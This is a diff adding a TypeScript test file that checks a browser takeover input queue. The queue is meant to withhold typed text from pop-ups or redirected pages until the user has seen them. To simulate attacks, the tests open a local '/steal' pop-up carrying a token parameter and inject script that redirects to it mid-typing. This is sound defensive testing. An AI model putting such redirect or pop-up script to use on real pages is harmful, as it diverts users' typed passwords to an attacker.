@@ -1,0 +1,134 @@
+import { mkdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import t from 'tap'
+import type { Test } from 'tap'
+import { systemClock } from '../../../lib/core/clock.ts'
+import { seal } from '../../../lib/core/seal.ts'
+import { PictureDocument } from '../../../lib/domain/picture.ts'
+import type { InputOrder } from '../../../lib/domain/worker-order.ts'
+import { readJsonIfExistsSync } from '../../../lib/files/atomic-json.ts'
+import { userKey } from '../../../lib/files/user-key.ts'
+import { FrontPage } from '../../../lib/execution/takeover/front-page.ts'
+import { InputQueue } from '../../../lib/execution/takeover/input-queue.ts'
+import { LivePicture } from '../../../lib/execution/takeover/live-picture.ts'
+import { createWorkerLog } from '../../../lib/execution/worker-log.ts'
+import { guardedBrowser } from '../../helpers/guarded-browser.ts'
+import { newFolder } from '../../helpers/project.ts'
+import { until } from '../../helpers/until.ts'
+import { gatedSite } from '../../helpers/worker-run.ts'
+
+const WORKER = 'w1'
+const PLACE = { x: 60, y: 40 }
+const FIELD = '<input autofocus style="position: absolute; left: 0; top: 0; width: 120px; height: 80px">'
+
+const site = await gatedSite(FIELD)
+t.teardown(site.close)
+const form = new URL('/form', site.url).href.replace('localhost', '127.0.0.1')
+const evil = new URL('/steal', form)
+evil.hostname = 'localhost'
+
+async function takenOver(t: Test) {
+  const { page, context } = await guardedBrowser(t, null)
+  await page.goto(form)
+  const member = { workerId: WORKER, jobId: 1, attempt: 1, member: 1, members: 1, workflow: 'w' }
+  const log = createWorkerLog(member, systemClock, () => undefined)
+  const front = new FrontPage(context)
+  front.calledTo(page)
+  const folder = join(newFolder(), 'pictures')
+  mkdirSync(folder)
+  const shared = { front, workerId: WORKER, log, clock: systemClock }
+  const picture = new LivePicture({ ...shared, folder })
+  t.teardown(() => picture.close())
+  let why: string | undefined
+  const queue = new InputQueue({ ...shared, onVerdict: (_order, reason) => void (why = reason) })
+  /** Returns the reason why the page did not take the input; undefined if it did. */
+  const act = async (order: InputOrder): Promise<string | undefined> => {
+    queue.add(order)
+    await queue.settled()
+    return why
+  }
+  return {
+    page,
+    front,
+    picture,
+    type: (text: string, seen = {}) => act({ type: 'text', sealed: seal(text, userKey(), WORKER), ...seen }),
+    press: () => act({ type: 'key', key: 'Backspace' }),
+    click: (seen = {}) => act({ type: 'click', ...PLACE, unit: 'pixel', ...seen }),
+    /** Takes a picture as a command line does, and returns the address beside it. */
+    look: async () => {
+      await picture.keep('p1')
+      return readFileSync(join(folder, `${WORKER}_p1.address`), 'utf8')
+    },
+    /** Returns the live picture of the console, once it shows this address. */
+    shows: (address: string) => {
+      picture.show({ untilAt: systemClock.now() + 60_000, columns: 4, rows: 4 })
+      return until(`a picture of ${address}`, () => {
+        const shown = readJsonIfExistsSync(join(folder, `${WORKER}.json`), PictureDocument)?.page
+        return shown?.address === address ? shown : undefined
+      })
+    },
+    opens: async () => {
+      const [popup] = await Promise.all([
+        new Promise<typeof page>(resolve => {
+          page.once('popup', opened => {
+            if (opened !== null) resolve(opened)
+          })
+        }),
+        page.evaluate(`void open('${evil.href}?token=abc')`),
+      ])
+      await popup.waitForSelector('input')
+      await popup.focus('input')
+      return popup
+    },
+  }
+}
+
+const VALUE = `document.querySelector('input').value`
+
+t.test('what a person types does not go to a pop-up until a picture has shown it', async t => {
+  const { page, type, press, click, look, opens } = await takenOver(t)
+  t.equal(await look(), form)
+  t.equal(await click(), undefined)
+  t.equal(await type('canary'), undefined)
+  const popup = await opens()
+  for (const refused of [await type('-password'), await press(), await click(), await type('-password')]) {
+    t.match(refused, `another one than the person has seen: ${evil.href}. Take a picture of it`)
+    t.notMatch(refused, /token|password/)
+  }
+  t.strictSame([await page.evaluate(VALUE), await popup.evaluate(VALUE)], ['canary', ''])
+  t.equal(await look(), evil.href)
+  t.equal(await type('public'), undefined)
+  t.equal(await popup.evaluate(VALUE), 'public')
+  await popup.close()
+  t.match(await type('x'), `has seen: ${form}`)
+})
+
+t.test('nor to the site to which the page has left, also in the middle of a text', async t => {
+  const { page, type, look, click } = await takenOver(t)
+  await page.evaluate(`document.querySelector('input').addEventListener('input', ({ target }) => {
+    if (target.value === 'abc') location.href = '${evil.href}'
+  })`)
+  await click()
+  t.match(await type('abc'.padEnd(400, 'x')), `has seen: ${evil.href}`)
+  await page.waitForSelector('input')
+  t.equal(await page.evaluate(VALUE), '')
+  t.match(await type('x'), `has seen: ${evil.href}`)
+  await look()
+  t.equal(await type('x'), undefined)
+  await page.goto(new URL('/other', evil).href)
+  t.equal(await type('x'), undefined, 'the same site is the same page')
+})
+
+t.test('the console acts on the page that it shows, and a click there counts as a look', async t => {
+  const { page, type, click, shows, opens } = await takenOver(t)
+  const { id: own } = await shows(form)
+  t.equal(await type('canary', { page: own }), undefined)
+  const popup = await opens()
+  const { id: other } = await shows(evil.href)
+  t.match(await type('-password', { page: own }), `has seen: ${evil.href}`)
+  t.match(await click({ page: own }), `has seen: ${evil.href}`)
+  t.match(await type('-password'), `has seen: ${evil.href}`, 'a command line has not seen it')
+  t.equal(await click({ page: other }), undefined)
+  t.equal(await type('public'), undefined)
+  t.strictSame([await page.evaluate(VALUE), await popup.evaluate(VALUE)], ['canary', 'public'])
+})
